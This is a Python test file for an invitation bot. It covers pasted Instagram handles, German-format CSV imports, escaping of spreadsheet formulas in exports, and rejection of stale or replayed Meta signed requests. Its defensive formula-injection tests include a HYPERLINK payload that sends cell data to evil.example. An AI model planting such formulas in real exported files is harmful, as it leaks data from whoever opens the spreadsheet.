"""What managers paste and get back, and Meta's signed_request age (issue 9: 10, 11, 13, 23).

End to end through the stand-ins, on SQLite and PostgreSQL: handles as managers paste them, CSV
files as German spreadsheet programs write them, exported CSV cells a spreadsheet must not run,
and Meta's callbacks refusing old or replayed signed requests."""

from __future__ import annotations

import asyncio
import csv
import io
import time

import httpx

from bot.console import Console
from bot.console_files import MAX_CSV_ROWS, CsvProblem, safe_cell
from bot.meta import ALGORITHM, sign_request
from sandbox.telegram import SentMessage
from tests.world import ANNA, MANAGER, World, anna_on_facebook
from web_callback.app import DATA_DELETION_PATH, DEAUTHORIZE_PATH


async def _send_csv(world: World, content: bytes) -> list[SentMessage]:
    before = len(world.telegram.messages(MANAGER.id))
    world.telegram.send_document(MANAGER, "list.csv", content)
    await world.settle()
    return world.telegram.messages(MANAGER.id)[before:]


# --- 10, 13: handles as managers paste them ------------------------------------------------------


async def test_handles_as_managers_paste_them(world: World) -> None:
    pasted = [
        "/invite @anna.bakes, @ben.cooks",
        "/invite @carla_cooks,@dora.draws",
        "/invite\n@emil.eats\nfrida.films\n",
        "/invite instagram.com/gus.grills https://www.instagram.com/Hanna.Hikes/",
        "/invite https://instagram.com/ivo.irons/?igsh=MXZ5dGZ; www.instagram.com/jana.jogs",
    ]
    for text in pasted:
        answers = await world.say(MANAGER, text)
        assert answers, text
        assert not any("not a valid" in m.text for m in answers), (text, answers[0].text)
    handles = [h for (h,) in await world.rows("SELECT handle FROM invitation ORDER BY id")]
    assert handles == [
        "anna.bakes",
        "ben.cooks",
        "carla_cooks",
        "dora.draws",
        "emil.eats",
        "frida.films",
        "gus.grills",
        "hanna.hikes",
        "ivo.irons",
        "jana.jogs",
    ]
    cards = [m for m in world.telegram.messages(MANAGER.id) if m.kind == "photo"]
    assert len(cards) == 10 and "Invitation for @hanna.hikes" in cards[7].text


async def test_eleven_handles_separated_by_commas_are_too_many(world: World) -> None:
    answers = await world.say(MANAGER, "/invite " + ",".join(f"@p{i}" for i in range(11)))
    assert "At most 10 handles per message" in answers[-1].text
    assert await world.rows("SELECT count(*) FROM invitation") == [(0,)]


async def test_rejected_handles_are_quoted_without_separators_and_cut_visibly(
    world: World,
) -> None:
    long = "x" * 45 + "!"
    answers = await world.say(MANAGER, f"/invite @bad!name, @ok.one, {long},")
    problems = answers[0].text
    assert "@bad!name is not a valid" in problems and "@bad!name," not in problems
    assert "x" * 39 + "… is not a valid" in problems  # cut at 40 characters, visibly
    assert long[:40] not in problems
    assert await world.rows("SELECT handle FROM invitation") == [("ok.one",)]

    answers = await _send_csv(world, f"{long};note\nfine.one;x\n".encode())
    assert f"Line 1: “{'x' * 39}…”" in answers[0].text


# --- 10: CSV files as spreadsheets write them ---------------------------------------------------


async def test_semicolon_csv_with_commas_in_the_notes(world: World) -> None:
    # What a German spreadsheet program writes: ';' between cells, commas inside the notes.
    content = (
        "anna.bakes;Backen, Kuchen, Torten\r\n"
        "ben.cooks;Kochen, Grillen, Braten\r\n"
        '@carla_cooks;"Mode; Reisen, Städte"\r\n'
    ).encode()
    answers = await _send_csv(world, content)
    assert "3 created, 0 already invited, 0 invalid" in answers[0].text
    assert await world.rows("SELECT handle, note FROM invitation ORDER BY id") == [
        ("anna.bakes", "Backen, Kuchen, Torten"),
        ("ben.cooks", "Kochen, Grillen, Braten"),
        ("carla_cooks", "Mode; Reisen, Städte"),
    ]
    links = list(csv.reader(io.StringIO((answers[1].document_bytes or b"").decode())))
    assert links[1][:2] == ["anna.bakes", "Backen, Kuchen, Torten"]

    answers = await _send_csv(world, b"Handle;Notiz\r\ndora.draws;Zeichnen, Malen\r\n")
    assert "1 created" in answers[0].text
    assert await world.rows("SELECT note FROM invitation WHERE handle = 'dora.draws'") == [
        ("Zeichnen, Malen",)
    ]


async def test_windows_1252_csv_from_german_excel(world: World) -> None:
    # German Excel's plain "CSV (Trennzeichen-getrennt)" is Windows-1252, not UTF-8.
    content = "Handle;Notiz\r\njuergen;Größe, Maße: 1,80 m\r\n".encode("cp1252")
    answers = await _send_csv(world, content)
    assert "1 created, 0 already invited, 0 invalid" in answers[0].text
    assert await world.rows("SELECT handle, note FROM invitation") == [
        ("juergen", "Größe, Maße: 1,80 m")
    ]


async def test_too_many_rows_are_refused_with_or_without_a_header(world: World) -> None:
    rows = "".join(f"user{i}\n" for i in range(MAX_CSV_ROWS + 1)).encode()
    for content in (rows, b"handle\n" + rows):
        answers = await _send_csv(world, content)
        assert "At most 1000 rows" in answers[-1].text, content[:10]
        assert "Nothing was created" in answers[-1].text
    assert await world.rows("SELECT count(*) FROM invitation") == [(0,)]


def test_the_row_limit_counts_rows_that_name_someone() -> None:
    exactly = "".join(f"user{i}\n" for i in range(MAX_CSV_ROWS))
    for text in (exactly, "handle\n" + exactly, "handle\n\n" + exactly + "\n\n"):
        wanted, invalid = Console.parse_csv(text.encode())
        assert len(wanted) == MAX_CSV_ROWS and not invalid
    try:
        Console.parse_csv((exactly + "one.more\n").encode())
    except CsvProblem as problem:
        assert str(problem) == "console.csv.too_many"
    else:
        raise AssertionError("1001 rows without a header were accepted")


# --- 11: exported cells a spreadsheet would run ---------------------------------------------------

_FORMULAS = ["=1+2", "+SUM(A1)", "-2+3", "@SUM(1)"]


async def test_links_csv_and_export_never_start_a_cell_with_a_formula(world: World) -> None:
    content = "handle,note\n" + "".join(
        f'p{i},"{formula}"\n' for i, formula in enumerate(_FORMULAS)
    )
    answers = await _send_csv(world, content.encode() + b"carla.cooks,plain note\n")
    assert f"{len(_FORMULAS) + 1} created" in answers[0].text
    links = list(csv.DictReader(io.StringIO((answers[1].document_bytes or b"").decode())))
    assert [row["note"] for row in links] == ["'" + f for f in _FORMULAS] + ["plain note"]
    # Stored as the manager wrote it; only the spreadsheet's cell is neutralised.
    assert await world.rows("SELECT note FROM invitation WHERE handle = 'p0'") == [("=1+2",)]

    token = await world.invite("anna.bakes")
    page = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await world.through_checks(ANNA, token)
    await world.facebook_login(ANNA, anna_on_facebook(name=page))
    await world.telegram.wait_for(MANAGER.id, "@anna.bakes is connected")
    export = await world.say(MANAGER, "/export")
    rows = list(csv.DictReader(io.StringIO((export[-1].document_bytes or b"").decode())))
    by_handle = {row["handle"]: row for row in rows}
    assert by_handle["anna.bakes"]["page_name"] == "'" + page
    assert by_handle["anna.bakes"]["followers"] == "12345"  # numbers stay numbers
    assert [by_handle[f"p{i}"]["note"] for i in range(len(_FORMULAS))] == [
        "'" + f for f in _FORMULAS
    ]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_tab_and_carriage_return_cells_are_neutralised_too() -> None:
    # A note loses its leading blanks on import; a Page name from Facebook may keep them.
    assert [safe_cell(v) for v in ("\tx", "\rx", "x\t", "", 12345, -3)] == [
        "'\tx",
        "'\rx",
        "x\t",
        "",
        12345,
        -3,
    ]


# --- 23: Meta's signed_request, fresh and once ----------------------------------------------------


def _secret(world: World) -> str:
    assert world.settings.facebook_app_secret is not None
    return world.settings.facebook_app_secret.get_secret_value()


def _signed(world: World, user_id: str, issued_at: int | None) -> str:
    payload: dict[str, object] = {"algorithm": ALGORITHM, "user_id": user_id}
    if issued_at is not None:
        payload["issued_at"] = issued_at
    return sign_request(payload, app_secret=_secret(world))


async def _post(world: World, path: str, signed: str) -> httpx.Response:
    url = f"http://127.0.0.1:{world.bot.http_port}{path}"
    return await world.browser.post(url, data={"signed_request": signed})


async def _connect_anna(world: World) -> None:
    token = await world.invite("anna.bakes")
    await world.through_checks(ANNA, token)
    await world.facebook_login(ANNA, anna_on_facebook())
    await world.telegram.wait_for(MANAGER.id, "@anna.bakes is connected")


async def test_old_future_or_undated_signed_requests_change_nothing(world: World) -> None:
    await _connect_anna(world)
    now = int(time.time())
    for path in (DEAUTHORIZE_PATH, DATA_DELETION_PATH):
        for issued_at in (now - 2 * 3600, now - 3601, now + 600, None, 1_764_000_000):
            answer = await _post(world, path, _signed(world, "fb-anna", issued_at))
            assert answer.status_code == 400, (path, issued_at)
            assert "stale" in answer.text
    assert await world.rows("SELECT count(*) FROM deletion_request") == [(0,)]
    assert await world.rows("SELECT status, ended_at FROM connection") == [("active", None)]

    # Fresh (a little clock skew either way is fine): acted on.
    fresh = await _post(world, DEAUTHORIZE_PATH, _signed(world, "fb-anna", now + 60))
    assert fresh.status_code == 200
    assert await world.rows("SELECT status FROM connection") == [("disconnected",)]


async def test_a_replayed_deletion_request_is_the_same_request(world: World) -> None:
    await _connect_anna(world)
    signed = _signed(world, "fb-anna", int(time.time()) - 30)
    first = await _post(world, DATA_DELETION_PATH, signed)
    assert first.status_code == 200
    again = await _post(world, DATA_DELETION_PATH, signed)
    assert again.status_code == 200 and again.json() == first.json()
    # Several at once (Meta's retry racing a replay): still one request.
    answers = await asyncio.gather(*(_post(world, DATA_DELETION_PATH, signed) for _ in range(4)))
    assert {a.status_code for a in answers} == {200}
    assert all(a.json() == first.json() for a in answers)
    assert await world.rows(
        "SELECT facebook_user_id, status, deleted_connections FROM deletion_request"
    ) == [("fb-anna", "completed", 1)]
    await world.telegram.wait_for(MANAGER.id, "to delete")
    await asyncio.sleep(1.0)
    told = sum(m.text.count("to delete their data") for m in world.telegram.messages(MANAGER.id))
    assert told == 1

    # The person asks again later: a new signed_request, a new request.
    later = await _post(world, DATA_DELETION_PATH, _signed(world, "fb-anna", int(time.time())))
    assert later.status_code == 200
    assert later.json()["confirmation_code"] != first.json()["confirmation_code"]
    assert len(await world.rows("SELECT id FROM deletion_request")) == 2
